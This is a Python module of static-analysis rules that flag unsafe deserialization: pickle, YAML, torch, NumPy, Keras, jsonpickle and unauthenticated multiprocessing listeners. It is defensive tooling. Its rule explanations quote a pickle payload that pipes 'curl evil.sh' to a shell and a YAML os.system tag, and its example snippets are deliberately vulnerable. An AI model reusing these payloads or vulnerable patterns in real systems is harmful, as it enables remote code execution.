"""Deserialization: formats whose loaders construct arbitrary objects (pickle and its
relatives, unsafe YAML loaders, PyTorch and NumPy archives, Keras models).

Loading such data runs code chosen by whoever wrote it. Libraries legitimately unpickle files
they wrote themselves, so the rules separate three cases: data that provably comes from a
request or the network (GH550, an error), loads of data passed in from elsewhere (GH551,
a warning that stays quiet on round trips and files opened from fixed paths), and APIs with
a safe mode that the code does not use (YAML, torch, NumPy, Keras), which have quick fixes.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import tree_sitter

from ..context import CallSite, Context
from ..flow import NETWORK, REQUEST
from ..model import Edit, Fix
from ..rule import CallRule, Hit
from ._common import (
    Category,
    Confidence,
    RuleMeta,
    Severity,
    call_name,
    enclosing,
    import_edits,
    in_test_code,
    keyword_fix,
    shorten,
    switched_on,
    words,
)
from .injection import find_source, last_assignment

Node = tree_sitter.Node

#: loaders that build arbitrary objects from their input; value: the data argument
_PICKLE_LOADERS: dict[str, tuple[int, str]] = {
    f"{module}.{function}": (0, keyword)
    for module in ("pickle", "cPickle", "_pickle", "dill", "cloudpickle", "pickle5")
    for function, keyword in (("loads", "data"), ("load", "file"), ("Unpickler", "file"))
}
_PICKLE_LOADERS.update(
    {
        "marshal.loads": (0, "bytes"),
        "marshal.load": (0, "file"),
        "jsonpickle.decode": (0, "string"),
        "jsonpickle.loads": (0, "string"),
        "jsonpickle.unpickler.decode": (0, "string"),
        "joblib.load": (0, "filename"),
        "sklearn.externals.joblib.load": (0, "filename"),
        "pandas.read_pickle": (0, "filepath_or_buffer"),
        "shelve.open": (0, "filename"),
        "dill.load_session": (0, "filename"),
        "numpy.load": (0, "file"),
        "torch.load": (0, "f"),
    }
)
#: GH550 reports request data; data from the network is the download family's GH201
_UNTRUSTED = (REQUEST,)
_REPORTED_ELSEWHERE = (REQUEST, NETWORK)


def _data_argument(site: CallSite) -> Node | None:
    index, keyword = _PICKLE_LOADERS.get(site.name or "", (0, "data"))
    return site.arg(index, keyword)


def _short(site: CallSite) -> str:
    """`pickle.loads`, `joblib.load`, but `load_model` for `keras.models.load_model`."""
    module, _, function = (site.name or "load").rpartition(".")
    return f"{module}.{function}" if module and "." not in module else function


GH550 = RuleMeta(
    code="GH550",
    name="deserialization-of-untrusted-data",
    category=Category.DESERIALIZATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(502,),
    message=(
        "`{sink}()` deserializes {kind} from `{source}` on line {line}: "
        "this runs code chosen by the sender"
    ),
    why=(
        "pickle, dill, marshal, jsonpickle, joblib and `pandas.read_pickle` rebuild objects by "
        "calling whatever constructors the data names, so loading bytes that someone else "
        "controls runs their code: a four-line payload with `__reduce__` returning "
        "`(os.system, ('curl evil.sh | sh',))` is enough. Data from a request, a socket or an "
        "HTTP download must never reach these loaders. Exchange data in JSON (or another "
        "format without code) and validate it; if objects must cross a trust boundary, sign "
        "them with an HMAC and verify before loading."
    ),
    example=(
        "@app.post('/restore')\n"
        "def restore():\n"
        "    state = pickle.loads(base64.b64decode(request.form['state']))\n"
        "    return jsonify(state)"
    ),
    fixed_example=(
        "@app.post('/restore')\n"
        "def restore():\n"
        "    state = json.loads(request.form['state'])\n"
        "    return jsonify(validate_state(state))"
    ),
)


def _untrusted_loader(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if site.name == "numpy.load" and not switched_on(ctx, site.arg(2, "allow_pickle")):
        return
    if site.name == "torch.load" and switched_on(ctx, site.keywords.get("weights_only")):
        return
    data = _data_argument(site)
    if data is None:
        return
    source = find_source(ctx, data, _UNTRUSTED)
    if source is None:
        return
    yield Hit.at(
        site.node,
        related=source.related,
        sink=_short(site),
        kind=source.kind,
        source=source.text,
        line=str(source.line),
    )


GH551 = RuleMeta(
    code="GH551",
    name="pickle-load-of-external-data",
    category=Category.DESERIALIZATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(502,),
    message=(
        "`{sink}()` deserializes `{data}`; if it can come from outside this program, "
        "it runs the author's code"
    ),
    why=(
        "Unpickling runs code chosen by whoever produced the bytes. Data handed to a function "
        "(a cookie, a cache entry, a message from a queue, an uploaded file) tends to cross a "
        "trust boundary sooner or later, and Redis, memcached or a shared volume are rarely "
        "as private as assumed. Prefer JSON or another data-only format; when pickle is "
        "required, authenticate the bytes with `hmac.compare_digest` over an HMAC before "
        "loading them."
    ),
    example=(
        "def load_session(cookie_value):\n    return pickle.loads(base64.b64decode(cookie_value))"
    ),
    fixed_example=(
        "def load_session(cookie_value):\n    return json.loads(base64.b64decode(cookie_value))"
    ),
)

_GENERIC_LOADERS = frozenset(
    {
        f"{module}.{function}"
        for module in ("pickle", "cPickle", "_pickle", "dill", "cloudpickle", "pickle5")
        for function in ("loads", "load", "Unpickler")
    }
    | {"joblib.load", "pandas.read_pickle", "shelve.open"}
)
_ROUND_TRIP = re.compile(r"(?:^|\.)(?:dumps|dump|getvalue|to_pickle|serialize\w*)$")
_LOCAL_DATA = re.compile(r"(?i)(?:^|[._])(?:checkpoint|ckpt|model|cache|cached|fixture|state)s?\b")


def _external_pickle(ctx: Context, site: CallSite) -> Iterator[Hit]:
    data = _data_argument(site)
    if (
        data is None
        or in_test_code(ctx, site.node)
        or find_source(ctx, data, _REPORTED_ELSEWHERE) is not None
    ):
        return  # GH550 and GH201 report data from requests and the network
    if not (_handler_stream(ctx, data) or _fetched_by_pandas(ctx, site, data)) and (
        _program_owned(ctx, data, 0) or not _from_outside(ctx, data, 0)
    ):
        return
    yield Hit.at(site.node, sink=_short(site), data=shorten(ctx.text(data), 40))


#: the connection of a `socketserver`/`http.server` handler: bytes a client sent
_HANDLER_STREAM = re.compile(r"^self\.(?:rfile|request)\.(?:read|readline|recv)\w*\(")
_HANDLER_BASE = re.compile(r"RequestHandler\b")
#: parameters that hold an address, which `pandas.read_pickle` fetches itself
_URL_NAME = re.compile(r"(?i)^(?:\w+_)?(?:url|uri|link)s?$")


def _handler_stream(ctx: Context, data: Node) -> bool:
    if not _HANDLER_STREAM.match(ctx.text(data)):
        return False
    owner = enclosing(data.parent, {"class_definition"})
    bases = None if owner is None else owner.child_by_field_name("superclasses")
    return bases is not None and bool(_HANDLER_BASE.search(ctx.text(bases)))


def _fetched_by_pandas(ctx: Context, site: CallSite, data: Node) -> bool:
    return (
        site.name == "pandas.read_pickle"
        and data.type == "identifier"
        and bool(_URL_NAME.match(ctx.text(data)))
        and last_assignment(ctx, data) is None
    )


#: names that say where data came from: a client, a message, a cookie
_OUTSIDE_NAME = re.compile(
    r"(?i)cookie|session|token|payload|body|message|msg|request|req\b|upload|header|param"
    r"|input|remote|external|untrusted|recv|packet|incoming|received|client_data|user_data"
)
#: text encodings: a pickle that was base64- or hex-encoded travelled through a text channel
_TEXT_DECODERS = words(
    """
    b64decode urlsafe_b64decode standard_b64decode decodebytes a2b_base64 unhexlify a2b_hex
    fromhex b32decode b85decode decodestring
    """
)
#: reads from shared stores and channels (`redis.get(key)`, `queue.get()`, `conn.recv()`)
_STORE_READ = re.compile(
    r"(?i)(?:redis|cache|memcache|queue|sock|conn|client|consumer|r)\w*\s*\.\s*"
    r"(?:get|hget|lpop|rpop|blpop|brpop|getdel|recv|recv_bytes|receive|read_message)$"
)


def _from_outside(ctx: Context, node: Node, depth: int) -> bool:
    """Does the value show signs of crossing a trust boundary (its name, a text decoding,
    a read from a cache, queue or socket)? Plain file loads of caches a library wrote
    itself show none and stay quiet."""
    if depth > 4:
        return False
    kind = node.type
    if kind in {"identifier", "attribute"}:
        if _OUTSIDE_NAME.search(ctx.text(node)):
            return True
        if kind == "identifier":
            bound = last_assignment(ctx, node)
            return bound is not None and _from_outside(ctx, bound, depth + 1)
        obj = node.child_by_field_name("object")
        return obj is not None and _from_outside(ctx, obj, depth + 1)
    if kind == "call":
        function = node.child_by_field_name("function")
        if function is None:
            return False
        callee = ctx.text(function)
        if _STORE_READ.search(callee):
            return True
        args = ctx.call_site(node).args
        if callee.rsplit(".", 1)[-1] in _TEXT_DECODERS:
            return any(not _program_owned(ctx, a, depth + 1) for a in args[:1])
        receiver = function.child_by_field_name("object") if function.type == "attribute" else None
        parts = args[:1] + ([receiver] if receiver is not None else [])
        return any(_from_outside(ctx, part, depth + 1) for part in parts)
    if kind in {"subscript", "parenthesized_expression", "await"}:
        return any(_from_outside(ctx, c, depth + 1) for c in node.named_children[:1])
    return False


def _program_owned(ctx: Context, node: Node, depth: int) -> bool:
    """Data this program evidently produced or ships: constants, round trips through
    `pickle.dumps`, files opened from fixed paths, and in-memory buffers built locally."""
    if depth > 4:
        return False
    if ctx.const(node) is not None:
        return True
    kind = node.type
    text = ctx.text(node)
    if kind == "call":
        function = node.child_by_field_name("function")
        if function is None:
            return False
        callee = ctx.text(function)
        if _ROUND_TRIP.search(callee):
            return True
        if callee.rsplit(".", 1)[-1] not in _PATH_BUILDERS:
            return False
        receiver = function.child_by_field_name("object") if function.type == "attribute" else None
        if receiver is not None and ctx.qualname(receiver) not in _PATH_MODULES:
            return _program_owned(ctx, receiver, depth + 1)
        args = ctx.call_site(node).args
        return bool(args) and all(_program_owned(ctx, a, depth + 1) for a in args)
    if kind == "identifier":
        if text in {"__file__", "__name__"} or text.isupper() or _LOCAL_DATA.search(text):
            return True
        bound = last_assignment(ctx, node)
        return bound is not None and _program_owned(ctx, bound, depth + 1)
    if kind == "attribute":
        obj = node.child_by_field_name("object")
        if text.startswith("self.") or _LOCAL_DATA.search(text) or text.split(".")[-1].isupper():
            return True
        return obj is not None and _program_owned(ctx, obj, depth + 1)
    if kind in {"binary_operator", "parenthesized_expression", "concatenated_string"}:
        return all(_program_owned(ctx, c, depth + 1) for c in node.named_children)
    if kind == "string":
        return all(
            c.type != "interpolation" or _interpolation_owned(ctx, c, depth)
            for c in node.named_children
        )
    return False


#: calls that build a path or open a file from their arguments
_PATH_BUILDERS = words(
    """
    open BytesIO GzipFile Path PurePath join dirname abspath realpath expanduser normpath
    joinpath with_suffix with_name read read_bytes resolve files fspath
    """
)
_PATH_MODULES = frozenset(
    {"os.path", "io", "gzip", "bz2", "lzma", "pathlib", "posixpath", "importlib.resources"}
)


def _interpolation_owned(ctx: Context, node: Node, depth: int) -> bool:
    expression = node.child_by_field_name("expression")
    return expression is not None and _program_owned(ctx, expression, depth + 1)


GH552 = RuleMeta(
    code="GH552",
    name="yaml-load-without-safe-loader",
    category=Category.DESERIALIZATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(502, 20),
    message="`{call}()` {detail}: YAML tags such as `!!python/object/apply` can run code",
    why=(
        "PyYAML's `Loader` and `UnsafeLoader` (and `FullLoader` before 5.4) construct Python "
        "objects from tags in the document, so `!!python/object/apply:os.system ['id']` in a "
        "configuration file or an upload runs a command as soon as it is loaded. Older "
        "PyYAML used such a loader when none was given, which is why code written from old "
        "examples is still exploitable. `yaml.safe_load()` builds only plain data (dicts, "
        "lists, strings, numbers) and is what nearly every caller needs."
    ),
    example="with open(path) as handle:\n    config = yaml.load(handle, Loader=yaml.Loader)",
    fixed_example="with open(path) as handle:\n    config = yaml.safe_load(handle)",
    fixable=True,
)

_SAFE_LOADERS = frozenset({"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"})
_UNSAFE_LOADERS = frozenset(
    {"Loader", "UnsafeLoader", "CLoader", "CUnsafeLoader", "FullLoader", "CFullLoader"}
)


def _loader_kind(ctx: Context, loader: Node | None) -> str | None:
    """'missing', the unsafe loader's name, or None when the loader is safe or unknown."""
    if loader is None:
        return "missing"
    name = ctx.qualname(loader) or ctx.text(loader)
    last = name.rsplit(".", 1)[-1]
    if last in _SAFE_LOADERS or "Safe" in last:
        return None
    if last in _UNSAFE_LOADERS and (name.startswith("yaml.") or name == last):
        return last
    return None


def _yaml_load(ctx: Context, site: CallSite) -> Iterator[Hit]:
    loader = site.arg(1, "Loader")
    kind = _loader_kind(ctx, loader)
    if kind is None or site.has_star_args:
        return
    safe_name = "safe_load_all" if (site.name or "").endswith("_all") else "safe_load"
    detail = (
        "without a safe Loader"
        if loader is None
        else f"with `{'Loader=' if 'Loader' in site.keywords else ''}{ctx.text(loader)}`"
    )
    fix = _rename_fix(
        ctx,
        site,
        safe_name,
        remove=loader,
        safe=kind in {"missing", "FullLoader", "CFullLoader"},
    )
    yield Hit.at(site.node, fix=fix, call=_short(site), detail=detail)


def _rename_fix(
    ctx: Context, site: CallSite, new_name: str, remove: Node | None, safe: bool
) -> Fix | None:
    """`yaml.load(x, Loader=L)` -> `yaml.safe_load(x)`: rename the attribute, drop `remove`.
    A bare `load(x)` (from `from yaml import load`) becomes `yaml.safe_load(x)`, importing
    `yaml` when needed."""
    function = site.function
    edits: list[Edit] = []
    if function.type == "attribute":
        attribute = function.child_by_field_name("attribute")
        if attribute is None:
            return None
        edits.append(Edit(attribute.start_byte, attribute.end_byte, new_name))
    else:
        imports = import_edits(ctx, "yaml")
        if imports is None:
            return None
        edits.extend(imports)
        edits.append(Edit(function.start_byte, function.end_byte, f"yaml.{new_name}"))
    if remove is not None:
        edit = _remove_argument(ctx, remove)
        if edit is None:
            return None
        edits.append(edit)
    return Fix(f"Use `{new_name}()`", tuple(edits), safe)


def _remove_argument(ctx: Context, value: Node) -> Edit | None:
    """Delete one argument (positional or `name=value`) with the comma that joins it."""
    node = (
        value.parent
        if value.parent is not None and value.parent.type == "keyword_argument"
        else value
    )
    arguments = node.parent
    if arguments is None or arguments.type != "argument_list":
        return None
    previous = node.prev_sibling
    if previous is not None and previous.type == ",":
        return Edit(previous.start_byte, node.end_byte, "")
    following = node.next_sibling
    if following is not None and following.type == ",":
        after = following.next_sibling
        end = after.start_byte if after is not None and after.type != ")" else following.end_byte
        return Edit(node.start_byte, end, "")
    return Edit(node.start_byte, node.end_byte, "")


GH553 = RuleMeta(
    code="GH553",
    name="yaml-unsafe-load-function",
    category=Category.DESERIALIZATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(502,),
    message="`{call}()` builds arbitrary Python objects from YAML tags; use `{safe}()`",
    why=(
        "`yaml.unsafe_load()` is PyYAML's explicit opt-in to constructing any Python object "
        "named in the document, which lets a YAML file run commands. `yaml.full_load()` is "
        "narrower but had several code-execution bypasses (CVE-2020-1747, CVE-2020-14343) and "
        "still builds Python-specific types. Configuration, API payloads and fixtures need only "
        "plain data, which `yaml.safe_load()` provides."
    ),
    example="settings = yaml.unsafe_load(request.data)",
    fixed_example="settings = yaml.safe_load(request.data)",
    fixable=True,
)


def _yaml_unsafe_function(ctx: Context, site: CallSite) -> Iterator[Hit]:
    name = site.name or ""
    safe_name = "safe_load_all" if name.endswith("_all") else "safe_load"
    fix = _rename_fix(ctx, site, safe_name, remove=None, safe="full_" in name)
    yield Hit.at(site.node, fix=fix, call=_short(site), safe=f"yaml.{safe_name}")


GH554 = RuleMeta(
    code="GH554",
    name="ruamel-yaml-unsafe",
    category=Category.DESERIALIZATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(502,),
    message="ruamel.yaml with `typ='{typ}'` constructs arbitrary Python objects from YAML tags",
    why=(
        "`YAML(typ='unsafe')` makes ruamel.yaml construct any Python object the document names, "
        "so loading an attacker's YAML runs their code. The default round-trip loader and "
        "`typ='safe'` build only data; use one of them unless every document is written by "
        "the program itself."
    ),
    example="from ruamel.yaml import YAML\nyaml = YAML(typ='unsafe')\ndata = yaml.load(stream)",
    fixed_example="from ruamel.yaml import YAML\nyaml = YAML(typ='safe')\ndata = yaml.load(stream)",
    fixable=True,
)


def _ruamel_unsafe(ctx: Context, site: CallSite) -> Iterator[Hit]:
    typ = site.keywords.get("typ")
    if typ is None:
        return
    values = [typ] if typ.type != "list" else list(typ.named_children)
    for value in values:
        if ctx.const(value) == "unsafe":
            fix = Fix(
                "Use `typ='safe'`", (Edit(value.start_byte, value.end_byte, "'safe'"),), False
            )
            yield Hit.at(site.node, fix=fix, typ="unsafe")
            return


GH555 = RuleMeta(
    code="GH555",
    name="torch-load-without-weights-only",
    category=Category.DESERIALIZATION,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(502,),
    message="`torch.load()` {detail}: a checkpoint file can run code when it is loaded",
    why=(
        "PyTorch checkpoints are pickle archives. Without `weights_only=True`, `torch.load()` "
        "unpickles arbitrary objects, so a model downloaded from a hub, shared in a ticket or "
        "uploaded by a user runs its author's code on load (PyTorch made `weights_only=True` "
        "the default in 2.6 for this reason). Tensors, state dicts and plain containers load "
        "fine with `weights_only=True`; allow extra classes with "
        "`torch.serialization.add_safe_globals()` rather than switching the protection off."
    ),
    example="state = torch.load('checkpoint.pt', map_location='cpu')",
    fixed_example="state = torch.load('checkpoint.pt', map_location='cpu', weights_only=True)",
    fixable=True,
)


def _saved_here(ctx: Context, site: CallSite) -> bool:
    """`buffer = io.BytesIO(); torch.save(obj, buffer); ...; torch.load(buffer)`: an
    in-memory round trip of the program's own object, which no one else can touch."""
    data = site.arg(0, "f")
    if data is None or data.type != "identifier":
        return False
    bound = last_assignment(ctx, data)
    if bound is None or call_name(ctx, bound) != "io.BytesIO" or ctx.call_site(bound).args:
        return False
    name = re.escape(ctx.text(data))
    between = ctx.source[bound.end_byte : site.node.start_byte]
    return re.search(rb"\bsave\([^\n]*,\s*" + name.encode() + rb"\s*[,)]", between) is not None


def _torch_load(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if site.has_star_args and "weights_only" not in site.keywords:
        return
    if _saved_here(ctx, site):
        return
    value = site.keywords.get("weights_only")
    if switched_on(ctx, value):
        return
    detail = "without `weights_only=True`" if value is None else "with `weights_only=False`"
    fix = keyword_fix(
        "Load with `weights_only=True`", site, "weights_only", "True", safe=value is None
    )
    yield Hit.at(site.node, fix=fix, detail=detail)


GH556 = RuleMeta(
    code="GH556",
    name="numpy-load-allow-pickle",
    category=Category.DESERIALIZATION,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(502,),
    message="`numpy.load(allow_pickle=True)` unpickles object arrays, which can run code",
    why=(
        "NumPy refuses pickled object arrays by default since 1.16.3 (CVE-2019-6446) because "
        "loading them runs code chosen by whoever wrote the `.npy`/`.npz` file. Turning "
        "`allow_pickle` back on for files received from elsewhere reopens that hole. Store "
        "numeric arrays (which never need pickle) and keep structured metadata in JSON next "
        "to them."
    ),
    example="arrays = np.load(uploaded_path, allow_pickle=True)",
    fixed_example="arrays = np.load(uploaded_path)",
    fixable=True,
)


def _numpy_allow_pickle(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if not switched_on(ctx, site.keywords.get("allow_pickle")) or in_test_code(ctx, site.node):
        return
    data = site.arg(0, "file")
    if data is not None and find_source(ctx, data, _UNTRUSTED) is not None:
        return  # GH550 reports the untrusted case
    fix = keyword_fix("Set `allow_pickle=False`", site, "allow_pickle", "False", safe=False)
    yield Hit.at(site.node, fix=fix)


GH557 = RuleMeta(
    code="GH557",
    name="keras-load-model-unsafe-mode",
    category=Category.DESERIALIZATION,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(502, 94),
    message="`{call}(safe_mode=False)` deserializes Lambda layers, which run arbitrary code",
    why=(
        "Keras' `safe_mode` refuses to load `Lambda` layers stored as marshalled Python "
        "bytecode, because loading such a model executes whatever code its author embedded "
        "(CVE-2024-3660 is one example). Models from hubs and shared drives should load with "
        "the default `safe_mode=True`; rewrite custom lambdas as registered layer classes."
    ),
    example="model = keras.models.load_model('downloaded.keras', safe_mode=False)",
    fixed_example="model = keras.models.load_model('downloaded.keras')",
    fixable=True,
)

_KERAS_LOADERS = words(
    """
    keras.models.load_model keras.saving.load_model tensorflow.keras.models.load_model
    keras.src.saving.saving_api.load_model tensorflow.keras.saving.load_model
    """
)


def _keras_unsafe(ctx: Context, site: CallSite) -> Iterator[Hit]:
    value = site.keywords.get("safe_mode")
    if value is None or ctx.text(value) not in {"False", "0"}:
        return
    fix = keyword_fix("Load with `safe_mode=True`", site, "safe_mode", "True", safe=False)
    yield Hit.at(site.node, fix=fix, call=_short(site))


GH558 = RuleMeta(
    code="GH558",
    name="jsonpickle-decode",
    category=Category.DESERIALIZATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(502,),
    message="`{call}()` rebuilds arbitrary Python objects from JSON; it is not a safe JSON parser",
    why=(
        "jsonpickle looks like JSON but restores any class named by `py/object`, `py/reduce` "
        "or `py/function` keys, which reaches the same code execution as pickle (its own "
        "documentation warns never to decode untrusted input). Code that only needs data "
        "should use `json.loads()` and build its objects explicitly, for example with "
        "dataclasses or pydantic models."
    ),
    example="def restore(payload):\n    return jsonpickle.decode(payload)",
    fixed_example="def restore(payload):\n    return Settings(**json.loads(payload))",
)


def _jsonpickle(ctx: Context, site: CallSite) -> Iterator[Hit]:
    data = site.arg(0, "string")
    if data is None or in_test_code(ctx, site.node) or ctx.const(data) is not None:
        return
    if find_source(ctx, data, _REPORTED_ELSEWHERE) is not None:
        return  # GH550 and GH201 report data from requests and the network
    yield Hit.at(site.node, call=_short(site))


GH559 = RuleMeta(
    code="GH559",
    name="multiprocessing-listener-without-authkey",
    category=Category.DESERIALIZATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(502, 306),
    message="`{call}()` on a network address without `authkey`: every message is unpickled",
    why=(
        "`multiprocessing.connection` sends pickles. A `Listener` or `Client` on a TCP address "
        "without an `authkey` accepts connections from anyone who can reach the port, and each "
        "`recv()` unpickles what they send, which runs their code. Pass a random `authkey` "
        "shared out of band (the handshake is an HMAC challenge), bind to localhost, or use a "
        "data-only protocol."
    ),
    example="listener = Listener(('0.0.0.0', 6000))\nconn = listener.accept()\njob = conn.recv()",
    fixed_example=(
        "listener = Listener(('127.0.0.1', 6000), authkey=os.environ['WORKER_KEY'].encode())\n"
        "conn = listener.accept()\njob = conn.recv()"
    ),
)

#: where `authkey` sits among the positional parameters
_AUTHKEY_POSITION = {"Listener": 3, "Client": 2, "BaseManager": 1, "SyncManager": 1}
_LISTENERS = words(
    """
    multiprocessing.connection.Listener multiprocessing.connection.Client
    multiprocessing.managers.BaseManager multiprocessing.managers.SyncManager
    """
)


def _listener_without_authkey(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if "authkey" in site.keywords or site.has_star_args or in_test_code(ctx, site.node):
        return
    address = site.arg(0, "address")
    if address is None or address.type != "tuple" or not address.named_children:
        return  # Unix sockets and pipes: reachable only on this machine
    short = (site.name or "").rsplit(".", 1)[-1]
    if site.arg(_AUTHKEY_POSITION.get(short, 1)) is not None:
        return
    host = ctx.const(address.named_children[0])
    if isinstance(host, str) and host in {"localhost", "127.0.0.1", "::1"}:
        return
    yield Hit.at(site.node, call=_short(site))


RULES = [
    CallRule(GH550, _untrusted_loader, names=frozenset(_PICKLE_LOADERS)),
    CallRule(GH551, _external_pickle, names=_GENERIC_LOADERS),
    CallRule(GH552, _yaml_load, names=frozenset({"yaml.load", "yaml.load_all"})),
    CallRule(
        GH553,
        _yaml_unsafe_function,
        names=frozenset(
            {"yaml.unsafe_load", "yaml.unsafe_load_all", "yaml.full_load", "yaml.full_load_all"}
        ),
    ),
    CallRule(GH554, _ruamel_unsafe, names=frozenset({"ruamel.yaml.YAML", "ruamel.yaml.main.YAML"})),
    CallRule(GH555, _torch_load, names=frozenset({"torch.load"})),
    CallRule(GH556, _numpy_allow_pickle, names=frozenset({"numpy.load"})),
    CallRule(GH557, _keras_unsafe, names=_KERAS_LOADERS),
    CallRule(
        GH558,
        _jsonpickle,
        names=frozenset({"jsonpickle.decode", "jsonpickle.loads", "jsonpickle.unpickler.decode"}),
    ),
    CallRule(GH559, _listener_without_authkey, names=_LISTENERS),
]

__all__ = ["RULES"]
